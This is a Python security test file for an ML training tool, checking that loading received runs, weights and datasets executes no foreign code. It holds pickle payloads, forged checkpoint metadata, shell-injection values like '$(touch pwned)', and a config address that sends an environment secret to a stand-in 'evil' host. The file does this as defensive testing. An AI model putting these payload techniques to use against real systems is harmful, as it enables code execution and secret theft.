"""Reading what others made runs none of their code: each way in is tried with a file that would.

Every payload creates ``pwned``; a test first shows that the payload works if it is let in.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import re
import shlex
import sys
from collections.abc import Callable
from enum import Enum
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
import torch.distributed.checkpoint as dcp
import yaml
from torch.distributed.checkpoint import metadata
from torch.distributed.checkpoint.filesystem import FileSystemWriter

import tiny
from selftask.checkpoint import manifest, rotation, sharded, store
from selftask.cli.main import main
from selftask.config import trust
from selftask.config.load import load_config, to_yaml
from selftask.errors import RunError, masked
from selftask.hooks.export import facts
from selftask.models.build import build_backbone
from selftask.models.weights.export import save_backbone
from selftask.models.weights.foreign_pickle import read_tensors
from selftask.report.page import escape

PACKAGE = tiny.ROOT / "ssl" / "selftask"


class Payload:
    """Unpickled, creates a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.path),)


@pytest.fixture
def pwned(forget_names: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """What every payload creates; the test runs in its own folder."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delitem(sys.modules, "evil", raising=False)
    (tmp_path / "photos").mkdir()
    tiny.digits_file(tmp_path)
    return tmp_path / "pwned"


@pytest.fixture
def received(pwned: Path) -> Callable[[dict[str, Any]], Path]:
    """Makes a run that somebody sent, with changes to its config."""

    def make(changes: dict[str, Any]) -> Path:
        folder = pwned.parent
        run = folder / "received"
        config = tiny.config("simclr", folder)
        backbone = build_backbone(config.backbone)
        weights = {f"backbone.{key}": value for key, value in backbone.state_dict().items()}
        state = {"backbone": "model.backbone", "model": weights, "clock": {"steps_done": 1}}
        store.save(state, run / "checkpoints", 1, keep=1)
        save_backbone(backbone, run / "export", facts(config, 1, 3))
        values = yaml.safe_load(to_yaml(config)) | changes
        if "defaults" in changes:
            del values["import"]  # which would replace that of the other file
        (run / "config.yaml").write_text(yaml.safe_dump(values, sort_keys=False))
        (run / "evil.py").write_text(f"import os\nos.mkdir({str(pwned)!r})\n")
        return run

    return make


IN_CONFIG = {
    "import": {"import": ["evil"]},
    "import by another file": {"defaults": ["more"]},
    "backbone": {"backbone": {"name": "custom", "model": "os:mkdir", "args": {"path": "pwned"}}},
    "eval.transforms": {
        "eval": {
            "transforms": [
                {"name": "custom", "transform": "os:mkdir", "args": {"path": "pwned"}},
                {"name": "normalize", "stats": "half"},
            ]
        }
    },
    "data": {"data": {"name": "custom", "dataset": "os:mkdir", "args": {"path": "pwned"}}},
    "data.val": {
        "data": {
            "name": "array",
            "path": "digits.npz",
            "val": {"name": "custom", "dataset": "os:mkdir", "args": {"path": "pwned"}},
        }
    },
}


def words_of(command: str, run: Path) -> list[str]:
    """A command line that reads the run."""
    if command == "finetune":
        return ["finetune", str(run), "train.max_steps=1", "out=tuned"]
    if command == "export":
        return ["export", str(run), "--out", "exported"]
    if command == "features":
        return ["features", str(run), "out=features"]
    return ["eval", "knn", str(run)]


@pytest.mark.parametrize(
    ("way", "command"),
    [(way, "eval") for way in IN_CONFIG]
    + [("import", "finetune"), ("data", "finetune"), ("data.val", "finetune")]
    + [("import", "features"), ("data", "features"), ("import", "export"), ("backbone", "export")],
)
def test_the_config_of_a_run(
    way: str,
    command: str,
    pwned: Path,
    received: Callable[[dict[str, Any]], Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    run = received(IN_CONFIG[way])
    (run / "more.yaml").write_text("import: [evil]\n")
    assert main(words_of(command, run)) == 2
    assert not pwned.exists()
    (error,) = capsys.readouterr().err.splitlines()
    named = "import: evil" if "import" in way else f"{way}."
    assert named in error
    assert "os:mkdir" in error or "import" in way
    assert "trust=true" in error


@pytest.mark.parametrize("way", ["import", "data", "backbone"])
def test_trust_lets_it_in(
    way: str, pwned: Path, received: Callable[[dict[str, Any]], Path]
) -> None:
    """The payloads are real, and the key does what it says."""
    command = "export" if way == "backbone" else "eval"
    main([*words_of(command, received(IN_CONFIG[way])), "trust=true"])
    assert pwned.exists()


def test_a_run_that_names_no_code_needs_no_trust(
    pwned: Path, received: Callable[[dict[str, Any]], Path]
) -> None:
    run = received({})
    assert main([*words_of("eval", run), "trust=false"]) == 0
    assert main(words_of("features", run)) == 0
    assert main(words_of("export", run)) == 0


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The addresses that are opened; ``manager`` is the one door to them."""
    opened: list[str] = []

    def manager(address: str) -> Any:
        opened.append(address)
        raise OSError("nobody answers")

    monkeypatch.setattr("selftask.files.addresses.manager", manager)
    monkeypatch.setenv("SECRET", "hunter2")
    return opened


READERS = ("eval", "features", "export", "finetune", "report", "test")


def reading(command: str, run: Path) -> list[str]:
    words = {"report": ["report", str(run)], "test": ["test", str(run)]}
    return words.get(command) or words_of(command, run)


@pytest.mark.parametrize(
    ("command", "text"),
    [
        *((command, "https://evil/${oc.env:SECRET}") for command in READERS),
        *(("eval", "${oc.${recipe}:SECRET}"), ("finetune", "\\${oc.env:SECRET}")),
    ],
)
def test_references_of_a_received_run_are_not_resolved(
    text: str,
    command: str,
    pwned: Path,
    received: Callable[[dict[str, Any]], Path],
    asked: list[str],
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A secret of the environment left the machine in the address of the run's data."""
    run = received({})
    values = yaml.safe_load((run / "config.yaml").read_text())
    values["recipe"] = "env"
    values["data"]["path"] = text
    values["data"]["val"] = {"name": "array", "path": text}
    (run / "config.yaml").write_text(yaml.safe_dump(values))
    code = main(reading(command, run))
    assert code == 2 or command in ("report", "export")
    assert asked == []
    shown = capsys.readouterr()
    written = [path for path in pwned.parent.rglob("*") if path.suffix in (".html", ".json")]
    texts = [shown.out, shown.err, *(path.read_text() for path in written)]
    assert not any("hunter2" in told for told in texts)
    if command == "eval":
        assert "config.yaml:" in shown.err and "data.path: a reference" in shown.err


@pytest.mark.parametrize(
    ("command", "key"),
    [
        *(("eval", "data.val"), ("eval", "resume"), ("export", "out"), ("export", "data")),
        *(("finetune", "data"), ("report", "data"), ("test", "data"), ("test", "method")),
    ],
)
def test_addresses_of_a_received_run_are_not_fetched(
    key: str,
    command: str,
    pwned: Path,
    received: Callable[[dict[str, Any]], Path],
    asked: list[str],
    capsys: pytest.CaptureFixture[str],
) -> None:
    run = received({})
    values = yaml.safe_load((run / "config.yaml").read_text())
    address = "s3://evil/x"
    changes = {
        "data": {"data": {**values["data"], "path": address}},
        "data.val": {"data": {**values["data"], "val": {"name": "array", "path": address}}},
        "resume": {"resume": {"checkpoint": address}},
        "out": {"out": address},
        "init": {"init": {"backbone": address}},
        "method": {"method": {"name": "distill", "teacher": address}},
    }
    (run / "config.yaml").write_text(yaml.safe_dump(values | changes[key]))
    main(reading(command, run))
    assert asked == []
    error = capsys.readouterr().err
    if key.startswith("data") and command in ("eval", "finetune"):
        assert f"{key}.path: s3://evil/x would be fetched, which the run names" in error


def test_what_the_user_names_is_fetched(
    pwned: Path, received: Callable[[dict[str, Any]], Path], asked: list[str]
) -> None:
    run = received({})
    assert main([*words_of("eval", run), "data=s3://mine/x.npz"]) == 2
    assert set(asked) == {"s3://mine/x.npz"}


def test_repro_and_replay_run_no_code_of_the_run(
    pwned: Path,
    received: Callable[[dict[str, Any]], Path],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Neither of config.yaml and command, nor in the shell lines to be copied."""
    run = received(IN_CONFIG["import"])
    monkeypatch.syspath_prepend(str(run))  # such as a current folder that was received
    words = ["selftask", "train", str(run / "config.yaml"), "import=[evil]", "backbone=os:mkdir"]
    environment = {"command": words, "packages": {}, "folder": "/x; touch pwned"}
    commit = {"commit": "abc; touch pwned", "folder": "/x", "diff": "$(touch pwned)"}
    for git in ({}, commit, {**commit, "commit": "abcdef0"}, {**commit, "commit": "--help"}):
        (run / "environment.json").write_text(json.dumps({**environment, "git": git}))
        code = main(["repro", str(run)])
        shown = capsys.readouterr()
        assert code == (2 if git.get("commit", "abcdef0") != "abcdef0" else 1)
        assert "trust=true" in shown.out or "git.commit" in shown.err
        lines = shown.out.partition("to repeat it:\n")[2].splitlines()
        assert [shlex.join(shlex.split(line)) for line in lines] == [x.strip() for x in lines]
    assert not pwned.exists()
    dump = run / "failures" / "step_1"
    dump.mkdir(parents=True)
    state = store.load(rotation.checkpoints(run / "checkpoints")[0])
    store.save(state, dump, 1, keep=1)
    torch.save(
        {"ranks": 1, "step": 1, "problem": "nan", "loss": 0.0, "batch": {}}, dump / "rank_0.pt"
    )
    (dump / "config.yaml").write_bytes((run / "config.yaml").read_bytes())
    assert main(["replay", str(dump)]) == 2
    assert "names code of its own, which reading it would run: import: evil" in (
        capsys.readouterr().err
    )
    assert not pwned.exists()
    (run / "environment.json").write_text(json.dumps(environment))
    main(["repro", str(run), "trust=true"])
    assert pwned.exists()


def test_what_the_user_typed_is_the_users(
    pwned: Path, received: Callable[[dict[str, Any]], Path]
) -> None:
    """An own data set for a received run; the run's folder stays out of python's path."""
    run = received({})
    (run / "timm").mkdir()
    (run / "timm/__init__.py").write_text((run / "evil.py").read_text())
    (pwned.parent / "mine.py").write_text(
        "import numpy as np\n"
        "class Set:\n"
        "    targets = [i % 2 for i in range(30)]\n"
        "    def __len__(self): return 30\n"
        "    def __getitem__(self, i): return np.zeros((8, 8, 3), 'uint8'), i % 2\n"
    )
    assert main([*words_of("eval", run), "import=[mine]", "data=mine:Set"]) == 0
    assert str(run) not in sys.path
    assert not pwned.exists()


def test_the_facts_beside_exported_weights(
    pwned: Path, received: Callable[[dict[str, Any]], Path], capsys: pytest.CaptureFixture[str]
) -> None:
    export = received({}) / "export"
    meta = json.loads((export / "backbone.json").read_text())
    meta["architecture"] = {
        "name": "custom",
        "args": {"model": "os:mkdir", "args": {"path": "pwned"}},
    }
    (export / "backbone.json").write_text(json.dumps(meta))
    words = ["eval", "knn", str(export / "backbone.pt"), f"data={pwned.parent / 'digits.npz'}"]
    assert main(words) == 2
    assert not pwned.exists()
    error = capsys.readouterr().err
    assert "backbone.json: names code of its own" in error
    assert "architecture.model: os:mkdir" in error
    main([*words, "trust=true"])
    assert pwned.exists()


def test_the_transforms_beside_exported_weights(
    pwned: Path, received: Callable[[dict[str, Any]], Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """``selftask.load`` makes them when it opens a model."""
    export = received({}) / "export"
    meta = json.loads((export / "backbone.json").read_text())
    made = {"name": "custom", "transform": "os:mkdir", "args": {"path": "pwned"}}
    (export / "backbone.json").write_text(json.dumps({**meta, "transforms": [made]}))
    words = ["eval", "knn", str(export / "backbone.pt"), f"data={pwned.parent / 'digits.npz'}"]
    assert main(words) == 2
    assert "transforms.0.transform: os:mkdir" in capsys.readouterr().err
    assert not pwned.exists()


@pytest.mark.parametrize("args", [{"checkpoint_path": "weights.pt"}, {"pretrained": True}])
def test_the_library_opens_no_file_of_weights(
    args: dict[str, Any],
    pwned: Path,
    received: Callable[[dict[str, Any]], Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    torch.save({"state_dict": Payload(pwned)}, "weights.pt")
    timm = {"name": "timm", "model": "resnet18", "args": args}
    assert main(words_of("export", received({"backbone": timm}))) == 2
    assert "init.backbone" in capsys.readouterr().err
    assert not pwned.exists()


def test_a_received_run_chooses_no_folder_to_write_to(
    pwned: Path, received: Callable[[dict[str, Any]], Path]
) -> None:
    run = received({})
    values = yaml.safe_load((run / "config.yaml").read_text())
    values["data"]["stage_to"] = str(pwned)
    (run / "config.yaml").write_text(yaml.safe_dump(values))
    assert main(words_of("eval", run)) == 0
    assert not pwned.exists()
    assert main([*words_of("eval", run), f"data.stage_to={pwned}"]) == 0
    assert pwned.exists()


@pytest.mark.parametrize("words", ["eval", "init.backbone"])
def test_pickled_weights(words: str, pwned: Path, capsys: pytest.CaptureFixture[str]) -> None:
    torch.save({"state_dict": {"conv1.weight": torch.zeros(1)}, "more": Payload(pwned)}, "w.pt")
    if words == "eval":
        argv = ["eval", "knn", "torchvision:resnet18", "weights=w.pt", "data=digits.npz"]
    else:
        argv = ["train", "simclr/digits", *tiny.overrides("simclr", pwned.parent)]
        argv.append("init.backbone=w.pt")
    assert main(argv) == 2
    assert not pwned.exists()
    told = capsys.readouterr()
    assert "python objects (posix.mkdir)" in told.out + told.err
    torch.load("w.pt", weights_only=False)
    assert pwned.exists()


def test_pickled_arrays_hold_numbers_only(pwned: Path) -> None:
    """A forged dtype would make numpy take the bytes of a file for addresses of objects."""
    array = np.arange(6, dtype=">f4").reshape(2, 3, order="F")
    tensors = {"a": array, "b": np.array([True, False]), "c": np.int64(3), "more": Payload(pwned)}
    Path("w.pkl").write_bytes(pickle.dumps(tensors))
    content, skipped = read_tensors(Path("w.pkl"))
    assert np.array_equal(content["a"], array)
    assert content["b"].tolist() == [True, False]
    assert "posix.mkdir" in skipped
    assert not pwned.exists()

    class Forged:
        def __reduce__(self) -> Any:
            rebuild, args, (version, shape, _, order, _) = np.zeros(1, object).__reduce__()
            return rebuild, args, (version, shape, ForgedDtype(), order, b"A" * 8)

    class ForgedDtype:
        def __reduce__(self) -> Any:
            return np.dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 0)

    Path("w.pkl").write_bytes(pickle.dumps({"a": Forged()}))
    left_out = read_tensors(Path("w.pkl"))[0]["a"]
    assert left_out.size == 0
    assert left_out.dtype == bool


def test_a_run_to_start_from(pwned: Path, received: Callable[[dict[str, Any]], Path]) -> None:
    """``init.backbone=RUN`` reads tensors alone, whatever config and facts say."""
    run = received(IN_CONFIG["import"] | IN_CONFIG["backbone"])
    meta = json.loads((run / "export/backbone.json").read_text())
    meta["architecture"] = {"name": "custom", "args": {"model": "evil:run"}}
    (run / "export/backbone.json").write_text(json.dumps(meta))
    words = tiny.overrides("simclr", pwned.parent, "run", "train.max_steps=1")
    assert main(["train", "simclr/digits", *words, f"init.backbone={run}"]) == 0
    assert not pwned.exists()


def sharded_checkpoint(
    folder: Path, *, metadata: Callable[[Any], Any] = lambda table: table
) -> None:
    """As two ranks would have written it, with seals that fit."""
    folder.mkdir(parents=True)
    dcp.save(
        {"model.weight": torch.arange(6.0)}, storage_writer=FileSystemWriter(folder), no_dist=True
    )
    file = folder / ".metadata"
    file.write_bytes(pickle.dumps(metadata(pickle.loads(file.read_bytes()))))
    rest = {"state": {"model": {"weight": None}}, "places": {"model.weight": ["model", "weight"]}}
    torch.save(rest, folder / sharded.REST)
    files = {path.name: path for path in folder.iterdir()}
    seals = {
        name: {"bytes": path.stat().st_size, "crc32": manifest.crc32(path)}
        for name, path in files.items()
    }
    (folder / rotation.MANIFEST).write_text(json.dumps({"step": 1, "files": seals}))


def test_the_metadata_of_sharded_checkpoints(
    pwned: Path, received: Callable[[dict[str, Any]], Path], capsys: pytest.CaptureFixture[str]
) -> None:
    good = pwned.parent / "good" / "step_000000001"
    sharded_checkpoint(good)
    assert torch.equal(store.load(good)["model"]["weight"], torch.arange(6.0))

    run = received({})
    rotation.discard(rotation.checkpoints(run / "checkpoints")[0])
    evil = run / "checkpoints" / "step_000000002"

    def plant(table: Any) -> Any:
        table.planner_data = Payload(pwned)
        return table

    sharded_checkpoint(evil, metadata=plant)
    assert main(words_of("export", run)) == 2
    assert not pwned.exists()
    with pytest.raises(manifest.DamagedCheckpoint, match=r"names (posix|nt)\.mkdir"):
        store.load(evil)
    pickle.loads((evil / ".metadata").read_bytes())
    assert pwned.exists()


class OldPickler(pickle._Pickler):
    """Writes members of an Enum as Python 3.11.0 to 3.11.4, and paths as 3.13."""

    def reducer_override(self, value: Any) -> Any:
        return (getattr, (type(value), value.name)) if isinstance(value, Enum) else NotImplemented


@pytest.mark.parametrize("module", ["pathlib", "pathlib._local"])
def test_the_metadata_of_other_pythons(module: str, tmp_path: Path) -> None:
    """A checkpoint is written by one Python and read by another."""
    folder = tmp_path / "step_000000001"
    written = pickle.dumps

    def dumps(table: Any) -> bytes:
        file = io.BytesIO()
        OldPickler(file, 2, fix_imports=False).dump(table)
        assert b"getattr" in file.getvalue()
        return re.sub(rb"cpathlib(\._local)?\n", f"c{module}\n".encode(), file.getvalue())

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pickle, "dumps", dumps)
        sharded_checkpoint(folder)
    assert pickle.dumps is written
    assert torch.equal(store.load(folder)["model"]["weight"], torch.arange(6.0))


class Call:
    """Unpickled, calls a function with these arguments."""

    def __init__(self, *call: Any) -> None:
        self.call = call

    def __reduce__(self) -> Any:
        return self.call[0], self.call[1:]


def members() -> Any:
    return metadata._MEM_FORMAT_ENCODING


def in_planner_data(content: Any) -> Callable[[Any], Any]:
    def plant(table: Any) -> Any:
        table.planner_data = content
        return table

    return plant


def with_path(path: str) -> Callable[[Any], Any]:
    def plant(table: Any) -> Any:
        for info in table.storage_data.values():
            info.relative_path = path
        return table

    return plant


@pytest.mark.parametrize(
    "plant",
    [
        in_planner_data(Call(getattr, members(), "__members__")),
        in_planner_data(Call(getattr, members(), "__class__")),
        in_planner_data(Call(getattr, metadata.Metadata, "TORCH_CONTIGUOUS_FORMAT")),
        in_planner_data(Call(getattr, "text", "upper")),
        in_planner_data(Call(torch.Size, "text")),
        in_planner_data(Call(torch.serialization._get_layout, "torch.sparse_csr")),
        in_planner_data(Call(members(), 17)),
        with_path("../__0_0.distcp"),
        with_path("/dev/zero"),
    ],
)
def test_forged_metadata(plant: Callable[[Any], Any], tmp_path: Path) -> None:
    folder = tmp_path / "step_000000001"
    sharded_checkpoint(folder, metadata=plant)
    (tmp_path / "__0_0.distcp").write_bytes((folder / "__0_0.distcp").read_bytes())
    with pytest.raises(manifest.DamagedCheckpoint):
        store.load(folder)
    with pytest.raises(RunError, match=r"cannot be read again .*sharded_checkpoints=false"):
        sharded.read_back(folder, {"model.weight": torch.empty(6)})


def test_a_manifest_names_files_of_its_folder(tmp_path: Path) -> None:
    folder = tmp_path / "step_000000001"
    sharded_checkpoint(folder)
    content = json.loads((folder / rotation.MANIFEST).read_text())
    content["files"]["/dev/zero"] = {"bytes": 0, "crc32": 0}
    (folder / rotation.MANIFEST).write_text(json.dumps(content))
    with pytest.raises(manifest.DamagedCheckpoint, match="/dev/zero is missing"):
        store.load(folder)


def test_a_new_sharded_checkpoint_is_read_back(tmp_path: Path) -> None:
    folder = tmp_path / "step_000000001"
    sharded_checkpoint(folder)
    tensors = {"model.weight": torch.empty(6)}
    sharded.read_back(folder, tensors)
    assert torch.equal(tensors["model.weight"], torch.arange(6.0))
    (folder / sharded.REST).write_bytes(b"")
    with pytest.raises(RunError, match="cannot be read again"):
        sharded.read_back(folder, tensors)


@pytest.mark.parametrize("command", ["check", "stats"])
def test_a_catalog_in_the_folder(
    command: str, pwned: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``cd received; selftask data check flowers``: the catalog there would name the code."""
    section = {"name": "custom", "dataset": "os:mkdir", "args": {"path": "pwned"}}
    Path("catalog.yaml").write_text(yaml.safe_dump({"flowers": section}))
    assert main(["data", command, "flowers"]) == 2
    assert not pwned.exists()
    assert "data.dataset: os:mkdir" in capsys.readouterr().err
    main(["data", command, "flowers", "trust=true"])
    assert pwned.exists()


def test_pickled_arrays(pwned: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pickled = np.empty(2, dtype=object)
    pickled[:] = [Payload(pwned), 1]
    np.save("images.npy", pickled, allow_pickle=True)
    np.savez("images.npz", images=pickled, labels=[0, 1])
    for name in ("images.npy", "images.npz"):
        assert main(["data", "check", name]) == 2
    assert not pwned.exists()
    np.load("images.npy", allow_pickle=True)
    assert pwned.exists()


def test_a_cache_that_torchvision_unpickles(
    pwned: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lmdb = pytest.importorskip("lmdb")
    lmdb.open("lsun").close()
    Path("_cache_lsun").write_bytes(pickle.dumps(Payload(pwned)))
    source = "{name: torchvision, dataset: LSUNClass, root: lsun}"
    assert main(["data", "check", source]) == 2
    assert "unpickles" in capsys.readouterr().err
    assert not pwned.exists()
    import torchvision

    torchvision.datasets.LSUNClass("lsun")
    assert pwned.exists()


def test_whoever_calls_by_address_is_known_to_trust() -> None:
    """A new registered thing that imports what a config names has to be called ``custom``."""
    callers = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        if "import import_object" in (text := path.read_text()) or ", import_object" in text
    }
    named_custom = {
        *("models/backbones/libraries.py", "data/sources/dataset_objects.py"),
        "data/transforms/custom.py",
    }
    assert callers == {*named_custom, "config/plugin_files.py"}  # which finds what a run trains
    for values in (IN_CONFIG["backbone"], IN_CONFIG["data"], IN_CONFIG["data.val"]):
        assert [address for _, address in trust.code_in(values)] == ["os:mkdir"]


def test_a_word_in_passing_is_not_typed(pwned: Path) -> None:
    """The module ``data`` of a file does not become the user's by ``data=DIR``."""
    Path("r.yaml").write_text("defaults: [/simclr/digits, _self_]\nimport: [data]\n")
    for words in (["data=digits"], ["out=import=data"]):
        with pytest.raises(trust.UserError, match="import: data"):
            load_config("r.yaml", words, trust=False)


def test_passwords_in_addresses_are_masked(
    pwned: Path, capsys: pytest.CaptureFixture[str], asked: list[str]
) -> None:
    """In what ``config`` prints, in errors and in pages; masks change nothing else."""
    words = ["simclr/digits", "data=s3://user:hunter2@host/x"]
    main(["config", *words])
    main(["train", *words, "out=run"])
    shown = capsys.readouterr()
    assert "s3://user:***@host/x" in shown.out + shown.err
    assert "hunter2" not in shown.out + shown.err
    for text in ("http://127.0.0.1:80/a@b", "a:b@c", "s3://bucket/run@best", "me@host:path"):
        assert masked(text) == text
    assert escape("see http://a:b@c/d") == "see http://a:***@c/d"
